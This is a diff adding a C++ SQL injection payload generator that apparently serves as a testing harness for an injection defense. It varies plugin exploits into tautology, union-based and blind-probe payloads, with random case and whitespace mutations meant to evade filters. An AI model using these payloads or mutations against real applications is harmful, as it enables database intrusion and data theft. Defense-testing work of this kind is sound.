@@ -1,0 +1,125 @@
+#include "attack/payload_gen.h"
+
+#include <set>
+
+#include "util/rng.h"
+#include "util/strings.h"
+
+namespace joza::attack {
+
+namespace {
+
+// Random token-level case mutation ("uNiOn SeLeCt" style).
+std::string MutateCase(Rng& rng, const std::string& s) {
+  std::string out = s;
+  for (char& c : out) {
+    if (IsAsciiAlpha(c)) {
+      c = rng.NextBool() ? AsciiToUpper(c) : AsciiToLower(c);
+    }
+  }
+  return out;
+}
+
+// Whitespace dialect: single spaces sometimes doubled.
+std::string MutateWhitespace(Rng& rng, const std::string& s) {
+  std::string out;
+  for (char c : s) {
+    out.push_back(c);
+    if (c == ' ' && rng.NextBool(0.3)) out.push_back(' ');
+  }
+  return out;
+}
+
+// A random always-true boolean expression.
+std::string RandomTautologyTerm(Rng& rng) {
+  switch (rng.NextBelow(5)) {
+    case 0: {
+      auto n = rng.NextInRange(2, 99);
+      return std::to_string(n) + "=" + std::to_string(n);
+    }
+    case 1: {
+      auto n = rng.NextInRange(2, 9);
+      return std::to_string(n + 1) + ">" + std::to_string(n);
+    }
+    case 2: return "1=1";
+    case 3: {
+      auto n = rng.NextInRange(10, 99);
+      return "(" + std::to_string(n) + "=" + std::to_string(n) + ")";
+    }
+    default: {
+      auto n = rng.NextInRange(2, 9);
+      return std::to_string(n) + " between 1 and 10";
+    }
+  }
+}
+
+std::string TrailingComment(Rng& rng) {
+  switch (rng.NextBelow(3)) {
+    case 0: return " -- a";
+    case 1: return " -- " + rng.NextToken(3);
+    default: return " #";
+  }
+}
+
+}  // namespace
+
+std::vector<Exploit> GenerateSqlmapPayloads(const PluginSpec& plugin,
+                                            std::size_t count,
+                                            std::uint64_t seed) {
+  Rng rng(seed ^ 0x5a17ab);
+  std::vector<Exploit> out;
+  std::set<std::string> seen;
+
+  const Exploit base = OriginalExploit(plugin);
+  std::size_t guard = 0;
+  while (out.size() < count && ++guard < count * 64) {
+    Exploit e = base;
+    switch (plugin.type) {
+      case AttackType::kTautology: {
+        std::string term = RandomTautologyTerm(rng);
+        if (plugin.quoted) {
+          e.payload = rng.NextToken(3) + "' or " + term + TrailingComment(rng);
+        } else {
+          e.payload = "-" + std::to_string(rng.NextInRange(1, 9)) + " or " +
+                      term;
+        }
+        break;
+      }
+      case AttackType::kUnionBased: {
+        // Vary the breakout marker / spacing / case around the union arm.
+        e.payload = MutateWhitespace(rng, MutateCase(rng, base.payload));
+        break;
+      }
+      case AttackType::kStandardBlind:
+      case AttackType::kDoubleBlind: {
+        // Sweep the probe character (the binary-search oracle) and mutate
+        // case/whitespace; both probes get the same dialect.
+        const std::string probe_true =
+            std::to_string(rng.NextInRange(97, 115));   // <= 's'
+        const std::string probe_false =
+            std::to_string(rng.NextInRange(117, 125));  // > 's', < '~'
+        std::string t = base.payload;
+        std::string f = base.false_payload;
+        auto swap_code = [](std::string s, const std::string& code) {
+          std::size_t pos = s.find("char(");
+          if (pos != std::string::npos) {
+            std::size_t close = s.find(')', pos);
+            s.replace(pos + 5, close - pos - 5, code);
+          }
+          return s;
+        };
+        Rng dialect(rng.Next());
+        Rng dialect_copy = dialect;
+        e.payload =
+            MutateWhitespace(dialect, MutateCase(dialect, swap_code(t, probe_true)));
+        e.false_payload = MutateWhitespace(
+            dialect_copy, MutateCase(dialect_copy, swap_code(f, probe_false)));
+        break;
+      }
+    }
+    if (seen.insert(e.payload).second) out.push_back(std::move(e));
+  }
+  return out;
+}
+
+}  // namespace joza::attack
